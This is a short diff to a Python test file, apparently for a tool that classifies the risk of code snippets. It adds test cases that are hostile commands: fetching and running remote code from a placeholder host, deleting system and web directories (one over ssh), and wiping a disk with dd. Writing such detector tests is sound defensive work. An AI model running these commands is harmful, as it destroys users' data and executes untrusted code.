@@ -142,6 +142,8 @@ def test_unclear_or_notable_code_is_medium(language: str, code: str) -> None:
         ("shell", "x=$(curl -s https://x.example/p)\neval \"$x\""),
         ("shell", "cd ~\nrm -rf *"),
         ("shell", "env PYTHONPATH=. sudo rm -rf /opt/app"),
+        ("shell", "python3 <(curl -s https://x.example/setup.py)"),
+        ("shell", "ssh deploy@203.0.113.7 'rm -rf /var/www'"),
         ("python", "import subprocess as sp\nsp.check_call(['rm', '-rf', '/usr/local'])"),
         ("python", "from os import system as run\nrun('dd if=/dev/zero of=/dev/sda')"),
         ("python", "get_ipython().system('rm -rf ~')"),
